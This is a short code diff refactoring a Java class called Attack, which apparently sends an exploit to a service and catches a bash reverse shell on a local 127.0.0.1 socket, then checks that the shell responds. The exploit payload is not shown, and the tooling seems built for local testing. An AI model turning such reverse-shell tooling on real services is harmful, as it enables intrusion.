@@ -37,7 +37,8 @@ public final class Attack implements AutoCloseable {
   }
 
   public static Attack on(URI service) throws IOException {
-    return new Attack(service, new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1")));
+    return new Attack(
+        service, new ServerSocket(0, 1, InetAddress.getByAddress(new byte[] {127, 0, 0, 1})));
   }
 
   /** Sends the exploit and waits for the shell: bash, with its input and output on our socket. */
@@ -115,9 +116,10 @@ public final class Attack implements AutoCloseable {
    */
   public boolean carries(Duration limit) throws IOException {
     byte[] buffer = new byte[8192];
-    while (read(buffer, System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(20)) > 0) {
-      continue;
-    }
+    int stale;
+    do {
+      stale = read(buffer, System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(20));
+    } while (stale > 0);
     send("echo still here\n");
     return read(buffer, System.nanoTime() + limit.toNanos()) > 0;
   }
